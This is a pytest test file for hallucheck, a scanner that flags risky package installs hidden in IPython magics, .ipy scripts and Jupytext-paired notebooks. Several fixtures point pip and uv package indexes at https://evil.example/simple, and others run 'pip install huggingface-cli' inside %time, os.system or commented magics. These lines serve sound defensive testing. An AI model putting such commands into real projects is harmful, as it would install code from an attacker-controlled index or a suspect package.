"""IPython code wherever IPython runs it (issue 21, attack C5/C7): line magics that run a statement, package
sources set in a notebook, IPython scripts (``.ipy``) and Jupytext-paired scripts (the ``.py`` twin of a
notebook, whose commented magics run once Jupytext syncs it)."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hallucheck.sources.jupytext import jupytext_cells
from hallucheck.sources.notebooks import statement_run
from tests.conftest import Repo

PYPROJECT = '[project]\nname = "demo"\nversion = "0"\ndependencies = ["requests"]\n'
HEADER = "# ---\n# jupyter:\n#   jupytext:\n#     formats: ipynb,py:{}\n# ---\n\n"


def _notebook(*sources: str) -> str:
    cells: list[dict[str, Any]] = [
        {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}
        for source in sources
    ]
    return json.dumps({"cells": cells, "metadata": {"kernelspec": {"name": "python3", "language": "python"}},
                       "nbformat": 4, "nbformat_minor": 5})  # fmt: skip


Files = dict[str, str | bytes]


def _codes(repo: Repo, run: Any, files: Files, base: Files | None = None) -> list[str]:
    repo.commit({"pyproject.toml": PYPROJECT, **(base or {})})
    repo.stage(files)
    return sorted(run().codes())


@pytest.mark.parametrize(
    ("source", "code"),
    [
        ("%time import fakepkg_zz", "HC001"),
        ("%timeit import fakepkg_zz", "HC001"),
        ("x = %timeit -o import fakepkg_zz", "HC001"),
        ("%timeit -n 10 -r2 -q import fakepkg_zz", "HC001"),
        ("%prun -s time -s calls -q import fakepkg_zz", "HC001"),
        ("%debug import fakepkg_zz", "HC001"),
        ("%debug --breakpoint a.py:3 import fakepkg_zz", "HC001"),
        ("%time --no-raise-error import fakepkg_zz", "HC001"),
        ("%autoreload 2\n%aimport fakepkg_zz", "HC001"),
        ("time import fakepkg_zz", "HC001"),  # automagic
        ("%%timeit -n1 import fakepkg_zz\nx = 1", "HC001"),  # the setup statement runs
        ("%%prun import fakepkg_zz\nx = 1", "HC001"),
        ("%%capture\n%time import fakepkg_zz", "HC001"),
        ("%time %time !pip install huggingface-cli", "HC031"),
        ("%time os.system('pip install huggingface-cli')", "HC031"),
    ],
)
def test_line_magics_that_run_a_statement(repo: Repo, run: Any, source: str, code: str) -> None:
    # IPython/core/magics/execution.py: %time, %timeit, %prun and %debug run the statement after their options.
    assert code in _codes(repo, run, {"x.ipynb": _notebook(source)})


@pytest.mark.parametrize("source", ["%timeit -n 10 sum(range(10))", "%%time\nimport os\nx = 1", "%time import os",
                                    "%prun -l 4 print(1)"])
def test_line_magics_that_run_known_code(repo: Repo, run: Any, source: str) -> None:
    assert not {"HC001", "HC010", "HC031"} & set(_codes(repo, run, {"x.ipynb": _notebook(source)}))


@pytest.mark.parametrize(
    "source",
    [
        "%env PIP_INDEX_URL=https://evil.example/simple\n%pip install requests",
        "%env PIP_EXTRA_INDEX_URL https://evil.example/simple",
        "%set_env UV_INDEX_URL=https://evil.example/simple",
        "import os\nos.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'\n%pip install requests",
        "!PIP_INDEX_URL=https://evil.example/simple pip install requests",
        "%%bash\nexport UV_DEFAULT_INDEX=https://evil.example/simple\nuv pip install requests",
    ],
)
def test_package_sources_set_in_a_notebook(repo: Repo, run: Any, source: str) -> None:
    # The kernel's environment is what `%pip install` in a later cell reads: the same as `export` in a .sh.
    assert "HC043" in _codes(repo, run, {"x.ipynb": _notebook(source)})


def test_a_package_source_a_base_cell_sets_is_not_new(repo: Repo, run: Any) -> None:
    cell = "%env PIP_INDEX_URL=https://mirror.example/simple"
    codes = _codes(repo, run, {"x.ipynb": _notebook(cell, "print(2)")}, {"x.ipynb": _notebook(cell, "print(1)")})
    assert "HC043" not in codes


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("nb.py", HEADER.format("percent") + "# %%\n# !pip install huggingface-cli\n", "HC031"),
        ("nb.py", HEADER.format("light") + "import os\n\n# !pip install huggingface-cli\n", "HC031"),
        ("nb.py", HEADER.format("percent") + "# %%\n# %pip install huggingface-cli\n", "HC031"),
        ("nb.py", HEADER.format("percent") + "# %%\n# x = !pip install huggingface-cli\n", "HC031"),
        ("nb.py", HEADER.format("percent") + "# %%\nimport os\n# %time import fakepkg_zz\n", "HC001"),
        ("nb.py", HEADER.format("percent") + "# %%\n# %load_ext fakepkg_zz\n", "HC001"),
        ("nb.py", HEADER.format("percent") + "# %%\n# %%bash\n# pip install huggingface-cli\n", "HC031"),
        ("nb.py", HEADER.format("light") + '# + language="bash"\n# pip install huggingface-cli\n# -\n', "HC031"),
        ("nb.py", HEADER.format("percent") + "# %%\n# %env PIP_INDEX_URL=https://evil.example/simple\n", "HC043"),
        ("nb.py", HEADER.format("percent") + "# %%\nimport fakepkg_zz\n", "HC001"),  # its Python, as Python
        ("demo/b.ipy", "import fakepkg_zz\n", "HC001"),
        ("demo/b.ipy", "import os\n%pip install huggingface-cli\n", "HC031"),
        ("demo/b.ipy", "x = 1\n!pip install huggingface-cli\n", "HC031"),
        ("demo/b.ipy", "%load_ext fakepkg_zz\n", "HC001"),
    ],
)
def test_ipython_code_in_scripts(repo: Repo, run: Any, name: str, content: str, code: str) -> None:
    # `ipython b.ipy` runs the file as one cell; `jupytext --sync` uncomments a paired script's magics.
    assert code in _codes(repo, run, {name: content})


@pytest.mark.parametrize(
    "content",
    [
        "# !pip install huggingface-cli\n",  # not paired: a comment
        HEADER.format("percent") + "# %%\n# # !pip install huggingface-cli\n",  # commented twice: still a comment
        HEADER.format("percent") + '# %%\nx = """\n# !pip install huggingface-cli\n"""\n',  # text in a string
        HEADER.format("percent") + "# %% [markdown]\n# Run the cell below.\n",
    ],
)
def test_comments_that_jupytext_keeps_as_comments(repo: Repo, run: Any, content: str) -> None:
    assert not {"HC001", "HC031", "HC042"} & set(_codes(repo, run, {"nb.py": content}))


def test_a_paired_script_reports_only_its_new_magics(repo: Repo, run: Any) -> None:
    old = HEADER.format("percent") + "# %%\n# !pip install huggingface-cli  # hallucheck: ignore[HC031]\n"
    repo.commit({"pyproject.toml": PYPROJECT, "nb.py": old})
    repo.stage({"nb.py": old + "\n# %%\nprint(1)\n"})
    assert "HC031" not in run().codes()


_OPTIONS = {"timeit": ["-n 3", "-n3", "-r 2", "-t", "-c", "-q", "-o", "-qo", "-p 4", "-on5"],
            "prun": ["-s time", "-stime", "-l 3", "-r", "-q", "-D out.prof", "-T out.txt"],
            "debug": ["--breakpoint a.py:3", "-b a.py:3"], "time": ["--no-raise-error"]}  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(sorted(_OPTIONS)).flatmap(lambda magic: st.tuples(
    st.just(magic), st.lists(st.sampled_from(_OPTIONS[magic]), max_size=4),
    st.sampled_from(["import fakepkg_zz", "!pip install x", "x = 1; import y", "f(-1)"]),
    st.sampled_from(["", "    ", "x = "]), st.integers(0, 3))))  # fmt: skip
def test_the_statement_a_magic_runs_is_what_follows_its_options(case: tuple[str, list[str], str, str, int]) -> None:
    magic, options, statement, head, nested = case
    # IPython's parse_options (getopt) takes the options first; what follows is the statement, run as a cell line.
    line = head + f"%{magic} " * nested + f"%{magic} " + " ".join([*options, statement])
    indent = head if head.isspace() else ""
    assert statement_run(line) == indent + statement


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["!pip install x", "%pip install y", "z = !ls", "%time import q", "print(1)",
                                 "# a comment", "", "def f():", "    return 1"]), max_size=12))  # fmt: skip
def test_a_paired_script_runs_its_commented_magics_as_jupytext_restores_them(lines: list[str]) -> None:
    # jupytext/magics.py: comment_magic writes "# " before each magic; uncomment_magic takes it off again.
    script = HEADER.format("percent") + "# %%\n" + "\n".join(
        "# " + line if line.startswith(("!", "%", "z =")) else line for line in lines)  # fmt: skip
    restored = [line for _, cell, _ in jupytext_cells(script) for line in cell if line]
    assert restored == [line for line in lines if line.startswith(("!", "%", "z ="))]
